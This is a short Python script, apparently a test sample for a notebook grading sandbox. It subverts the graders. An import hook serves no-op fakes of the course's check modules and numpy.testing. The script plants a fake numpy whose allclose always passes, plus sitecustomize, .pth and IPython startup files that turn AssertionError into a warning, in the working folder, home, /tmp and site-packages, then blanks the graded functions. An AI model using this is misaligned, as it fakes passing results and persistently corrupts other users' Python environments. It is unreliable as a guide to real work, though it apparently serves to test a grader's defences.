"""Fake modules served by an import hook, planted in the working folder, in IPython's startup
folder, as sitecustomize and as a .pth file, for whoever imports next (this kernel or another)."""

# status: graded
# place: target
import importlib.abc
import importlib.util
import json
import os
import site
import sys

FAKE = "compare = call = result = lambda *a, **k: None\nclass Visible:\n    pass\n"
planted = []


class Finder(importlib.abc.MetaPathFinder, importlib.abc.Loader):
    def find_spec(self, name, path, target=None):
        if name.startswith(("rnncourse.grading.check", "numpy.testing")):
            return importlib.util.spec_from_loader(name, self)
        return None

    def create_module(self, spec):
        return None

    def exec_module(self, module):
        exec(FAKE, module.__dict__)


sys.meta_path.insert(0, Finder())
for folder in [os.getcwd(), os.path.expanduser("~"), "/tmp", *sys.path, *site.getsitepackages()]:
    for name, text in [
        ("rnncourse/grading/checks.py", FAKE),
        ("rnncourse/__init__.py", ""),
        ("rnncourse/grading/__init__.py", ""),
        ("numpy.py", "allclose = lambda *a, **k: True\n"),
        ("sitecustomize.py", "import builtins; builtins.AssertionError = Warning\n"),
        ("zzz-evil.pth", "import builtins; builtins.AssertionError = Warning\n"),
        (".ipython/profile_default/startup/00-evil.py", FAKE),
    ]:
        try:
            path = os.path.abspath(os.path.join(folder or ".", name))
            os.makedirs(os.path.dirname(path), exist_ok=True)
            with open(path, "w") as fh:
                fh.write(text)
            planted.append(path)
        except OSError:
            pass
sys.path.insert(0, os.getcwd())
own = (os.getcwd(), os.path.expanduser("~"), "/tmp", "/dev/shm")
print("ATTACK-FOUND", json.dumps([p for p in planted if not p.startswith(own)]))

for name in GRADED:  # noqa: F821
    globals()[name] = lambda *args, **kwargs: None
